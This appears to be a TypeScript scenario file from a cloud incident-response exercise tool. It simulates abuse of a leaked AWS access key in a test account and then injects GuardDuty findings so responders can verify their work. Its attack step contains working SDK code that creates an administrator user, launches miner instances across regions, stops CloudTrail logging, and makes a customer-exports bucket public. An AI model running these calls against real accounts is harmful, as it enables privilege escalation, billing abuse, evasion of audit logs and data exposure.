/** A pipeline's access key has leaked: the intruder makes a user, starts instances, stops the trail, opens a bucket. */
import { CloudTrailClient, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { DescribeImagesCommand, EC2Client, RunInstancesCommand } from '@aws-sdk/client-ec2';
import {
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateUserCommand,
  GetUserCommand,
  IAMClient,
  ListUsersCommand,
  type AccessKey,
} from '@aws-sdk/client-iam';
import {
  DeletePublicAccessBlockCommand,
  ListBucketsCommand,
  PutBucketPolicyCommand,
  S3Client,
} from '@aws-sdk/client-s3';
import { caller, type Caller, type Credentials } from '../caller.ts';
import { anomalousImpact, maliciousCaller } from './findings.ts';
import {
  aclsOf,
  ATTACKER_IP,
  checks,
  INTRUDER,
  MINERS,
  REGIONS,
  TRAIL,
  VICTIM,
  type Cast,
} from './leaked-key-checks.ts';
import { asOwner, interfaceGroups, userPolicies, volumesOf, type Machine } from './reading.ts';
import { billed, watchedByDetective } from './telemetry.ts';
import { injectFinding, scenario, type Plot, type Stage } from './scenario.ts';

export const leakedKey = scenario({
  name: 'leaked-key',
  title: 'A leaked access key makes an administrator, six instances in three regions, a public bucket',
  account: '111122223333',
  play,
});

const ATTACKER_TOOL = 'aws-cli/2.27.41 md/awscrt#0.26.1 ua/2.1 os/linux#6.8.0-kali lang/python#3.13.4';
const HOME = 'us-east-1';

function play({ aws, id, tell, account }: Stage): Plot {
  const cast: Partial<Cast> = {};
  let leaked: Credentials;

  return {
    async seed() {
      await asOwner(aws, id, async (who) => {
        const { AccessKey } = await who.client(IAMClient).send(new CreateAccessKeyCommand({ UserName: VICTIM }));
        leaked = credentialsOf(AccessKey);
        cast.key = leaked.accessKeyId;
        cast.bucket = `${account.name}-customer-exports-${id}`;
        cast.policies = await userPolicies(who, VICTIM);
        cast.acls = await aclsOf(who);
      });
      const pipeline = caller(aws, leaked, { sourceIp: '203.0.113.24', userAgent: 'Terraform' });
      await pipeline.client(S3Client).send(new ListBucketsCommand({}));
      pipeline.close();
      await watchedByDetective(aws, id, [VICTIM, INTRUDER], ATTACKER_IP);
    },

    async attack() {
      cast.began = new Date();
      const intruder = caller(aws, leaked, { sourceIp: ATTACKER_IP, userAgent: ATTACKER_TOOL });
      const iam = intruder.client(IAMClient);
      const { User } = await iam.send(new GetUserCommand({ UserName: VICTIM }));
      await iam.send(new ListUsersCommand({}));
      await iam.send(new CreateUserCommand({ UserName: INTRUDER }));
      const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: INTRUDER }));
      tell('attacker', `CreateUser ${INTRUDER}  (key ${shortKey(leaked.accessKeyId)}, from ${ATTACKER_IP})`);
      const PolicyArn = 'arn:aws:iam::aws:policy/AdministratorAccess';
      await iam.send(new AttachUserPolicyCommand({ UserName: INTRUDER, PolicyArn }));
      tell('attacker', 'AttachUserPolicy AdministratorAccess');
      // The last region with the key that it made itself: what that key did has to be found too.
      const second = caller(aws, credentialsOf(AccessKey), { sourceIp: ATTACKER_IP, userAgent: ATTACKER_TOOL });
      const started = await Promise.all(
        REGIONS.map((region, i) => startMiners(i === REGIONS.length - 1 ? second : intruder, region)),
      );
      tell('attacker', `RunInstances ${REGIONS.map((r) => `×${MINERS[r]} ${r}`).join(', ')}`);
      await intruder.client(CloudTrailClient).send(new StopLoggingCommand({ Name: TRAIL }));
      tell('attacker', `StopLogging ${TRAIL}`);
      await openBucket(intruder, cast.bucket ?? '');
      tell('attacker', `PutBucketPolicy ${cast.bucket} → everyone`);
      intruder.close();
      second.close();
      await billed(
        aws,
        id,
        REGIONS.filter((region) => region !== HOME),
      );
      await asOwner(aws, id, async (who) => {
        cast.machines = await Promise.all(started.flat().map((machine) => described(who, machine)));
      });
      const by = { accessKeyId: leaked.accessKeyId, principalId: User?.UserId ?? '', userName: VICTIM };
      for (const finding of [maliciousCaller, anomalousImpact]) {
        const detail = finding(by, ATTACKER_IP, cast.began) as { type: string };
        await injectFinding(aws, id, HOME, detail);
        tell('GuardDuty', detail.type);
      }
    },

    verify: (state) => asOwner(aws, id, (who) => checks(who, state, cast as Cast)),
  };
}

const credentialsOf = (key: AccessKey | undefined): Credentials => ({
  accessKeyId: key?.AccessKeyId ?? '',
  secretAccessKey: key?.SecretAccessKey ?? '',
});

const shortKey = (key: string): string => `${key.slice(0, 4)}…${key.slice(-2)}`;

async function startMiners(who: Caller, region: string): Promise<Machine[]> {
  const ec2 = who.client(EC2Client, region);
  const images = await ec2.send(
    new DescribeImagesCommand({ Owners: ['amazon'], Filters: [{ Name: 'name', Values: ['al20*', 'amzn*'] }] }),
  );
  const count = MINERS[region] ?? 0;
  const run = await ec2.send(
    new RunInstancesCommand({
      ImageId: images.Images?.[0]?.ImageId,
      InstanceType: 'c5.4xlarge',
      MinCount: count,
      MaxCount: count,
    }),
  );
  return (run.Instances ?? []).map((i) => ({ id: i.InstanceId ?? '', region }));
}

async function openBucket(who: Caller, Bucket: string): Promise<void> {
  const s3 = who.client(S3Client);
  await s3.send(new DeletePublicAccessBlockCommand({ Bucket }));
  const Policy = JSON.stringify({
    Version: '2012-10-17',
    Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: `arn:aws:s3:::${Bucket}/*` }],
  });
  await s3.send(new PutBucketPolicyCommand({ Bucket, Policy }));
}

async function described(who: Caller, machine: Machine): Promise<Cast['machines'][number]> {
  const volumes = await volumesOf(who, machine);
  return {
    ...machine,
    volumes: volumes.flatMap((v) => v.VolumeId ?? []),
    groups: await interfaceGroups(who, machine),
  };
}
